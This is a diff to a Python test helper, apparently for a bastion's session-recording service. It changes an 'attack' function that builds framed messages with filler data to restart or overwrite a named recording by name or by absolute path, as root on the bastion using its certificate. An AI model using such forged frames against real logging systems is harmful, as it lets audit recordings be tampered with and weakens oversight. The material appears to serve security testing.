@@ -2,7 +2,7 @@
 
 ``session``: argv is one JSON object {account, relay, marker, hold}. The window of this throw-away account is a listener
 on the loopback: what is typed goes through the recorded relay, the listener answers. Prints READY, then END.
-``attack``: {server, port, name, marker}: what root of the bastion can send to the log server with the bastion's certificate.
+``attack``: {server, port, name, address, root}: what root of the bastion can send to the log server with the bastion's certificate.
 """
 
 from __future__ import annotations
@@ -96,10 +96,10 @@ def frame(number: int, body: bytes) -> bytes:
     return struct.pack("!I", len(message)) + message
 
 
-def attack(server: str, port: int, name: str, address: str) -> None:
+def attack(server: str, port: int, name: str, address: str, root: str = "/srv/pgssi-recordings") -> None:
     point, again = field(2, b"\x08\x00\x10\x00"), field(1, name.encode())
     data = frame(7, field(1, b"\x08\x00\x10\x01") + field(2, b"FAUX" * 50)) + frame(8, field(2, b"FAUX" * 50))
-    absolute = field(1, f"/srv/pgssi-recordings/recordings/{name}".encode())
+    absolute = field(1, f"{root}/recordings/{name}".encode())
     sent = {
         "restart": frame(4, again + point) + data + frame(3, b""),
         "restart by path": frame(4, absolute + point) + data + frame(3, b""),
